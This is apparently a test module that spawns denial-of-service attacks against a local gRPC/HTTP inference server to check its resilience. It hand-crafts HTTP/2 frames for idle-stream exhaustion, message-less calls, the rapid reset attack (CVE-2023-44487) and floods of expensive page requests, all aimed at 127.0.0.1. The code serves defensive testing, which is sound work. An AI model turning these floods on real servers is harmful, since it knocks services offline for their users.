"""Attacks on a server, each a process of its own: `python -m tests.serve.attacks NAME PORT` goes on until it is killed."""

import contextlib
import itertools
import os
import socket
import struct
import subprocess
import sys
import threading
import time
import urllib.request
from collections.abc import Callable, Iterator, Mapping
from typing import Final

_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RESET, _SETTINGS, _PING = 0, 1, 3, 4, 6
_ACKNOWLEDGED, _END_STREAM, _END_HEADERS = 1, 1, 4
READS_NOTHING: Final = struct.pack(">HI", 4, 0)  # SETTINGS_INITIAL_WINDOW_SIZE of RFC 9113, section 6.5.2
_CANCEL: Final = struct.pack(">I", 8)
_INFER, _STREAM = "ModelInfer", "ModelStreamInfer"
# Paths that cost the server more than a look-up.
_PAGES: Final = ("/metrics", "/openapi.json", "/docs", "/v2/models/stats", "/v2/repository/index")


def frame(frame_type: int, flags: int, stream_id: int, content: bytes = b"") -> bytes:
    """A frame of HTTP/2: RFC 9113, section 4.1."""
    return struct.pack(">I", len(content))[1:] + struct.pack(">BBI", frame_type, flags, stream_id) + content


def call_headers(method_name: str) -> bytes:
    """The headers of a call over gRPC, each a literal that no table keeps: RFC 7541, section 6.2.2."""
    headers = {
        ":method": "POST",
        ":scheme": "http",
        ":path": f"/inference.GRPCInferenceService/{method_name}",
        ":authority": "x",
        "content-type": "application/grpc",
        "te": "trailers",
    }
    texts = [text.encode() for header in headers.items() for text in header]
    parts = [bytes([len(text)]) + text for text in texts]
    return b"".join(b"\0" + key + value for key, value in zip(parts[::2], parts[1::2], strict=True))


class RawConnection:
    """A connection of HTTP/2 that does what no client of gRPC does."""

    def __init__(self, port: int, settings: bytes = b"") -> None:
        self.socket = socket.create_connection(("127.0.0.1", port))
        self.stream_ids = itertools.count(1, 2)
        self.is_open = True
        self.socket.sendall(_PREFACE + frame(_SETTINGS, 0, 0, settings))
        threading.Thread(target=self._read, daemon=True).start()

    def _read(self) -> None:
        """Acknowledge what the server wants acknowledged, so that it goes on with the connection."""
        with contextlib.suppress(OSError), self.socket.makefile("rb") as stream:
            while len(head := stream.read(9)) == 9:
                content = stream.read(int.from_bytes(head[:3], "big"))
                if head[3] in (_SETTINGS, _PING) and not head[4] & _ACKNOWLEDGED:
                    self.socket.sendall(frame(head[3], _ACKNOWLEDGED, 0, content if head[3] == _PING else b""))
        self.is_open = False

    def open_calls(self, method_name: str, call_count: int) -> None:
        """Begin calls, and send no message."""
        headers = call_headers(method_name)
        frames = [frame(_HEADERS, _END_HEADERS, next(self.stream_ids), headers) for _ in range(call_count)]
        self.socket.sendall(b"".join(frames))

    def ask(self, message: bytes) -> None:
        """Send a call of an inference. What it answers is read until the window of the stream, 64 KB, is full."""
        stream_id = next(self.stream_ids)
        content = b"\0" + struct.pack(">I", len(message)) + message
        self.socket.sendall(
            frame(_HEADERS, _END_HEADERS, stream_id, call_headers(_INFER))
            + frame(_DATA, _END_STREAM, stream_id, content)
        )

    def reset_calls(self, call_count: int) -> None:
        """Begin calls, and take each back at once."""
        headers, frames = call_headers(_INFER), []
        for stream_id in itertools.islice(self.stream_ids, call_count):
            frames += [frame(_HEADERS, _END_HEADERS, stream_id, headers), frame(_RESET, 0, stream_id, _CANCEL)]
        self.socket.sendall(b"".join(frames))


def _report_start() -> None:
    sys.stdout.write("attacking\n")
    sys.stdout.flush()


def hold_calls(port: int, method_name: str, counts: tuple[int, ...]) -> None:
    """Keep so many calls open on each of some connections; open them again when they end."""
    while True:
        connections = [RawConnection(port) for _ in counts]
        for connection, call_count in zip(connections, counts, strict=True):
            connection.open_calls(method_name, call_count)
        _report_start()
        while all(connection.is_open for connection in connections):
            time.sleep(0.1)


def reset_calls(port: int) -> None:
    """Rapid reset: CVE-2023-44487."""
    connection = RawConnection(port)
    _report_start()
    with contextlib.suppress(OSError):
        while connection.is_open:
            connection.reset_calls(100)
    threading.Event().wait()


def ask_pages(port: int, client_count: int = 20) -> None:
    """Ask for pages that are large, from many clients."""

    def ask() -> None:
        for path in itertools.cycle(_PAGES):
            body = b"{}" if path.endswith("/index") else None
            with contextlib.suppress(OSError), urllib.request.urlopen(f"http://127.0.0.1:{port}{path}", body) as page:
                page.read()

    for _ in range(client_count):
        threading.Thread(target=ask, daemon=True).start()
    _report_start()
    threading.Event().wait()


_ATTACKS: Final[Mapping[str, Callable[[int], None]]] = {
    "idle streams": lambda port: hold_calls(port, _STREAM, (1100,)),
    "idle streams of many connections": lambda port: hold_calls(port, _STREAM, (400,) * 4),
    "calls without a message": lambda port: hold_calls(port, _INFER, (400,) * 4),
    "rapid reset": reset_calls,
    "pages": ask_pages,
}
ATTACK_NAMES: Final = tuple(_ATTACKS)


@contextlib.contextmanager
def attacking(attack_name: str, port: int) -> Iterator["subprocess.Popen[str]"]:
    command = [sys.executable, "-m", "tests.serve.attacks", attack_name, str(port)]
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as process:
        try:
            assert process.stdout is not None
            assert process.stdout.readline()
            yield process
        finally:
            process.kill()


if __name__ == "__main__":
    os.nice(19)  # it stands for another machine
    _ATTACKS[sys.argv[1]](int(sys.argv[2]))
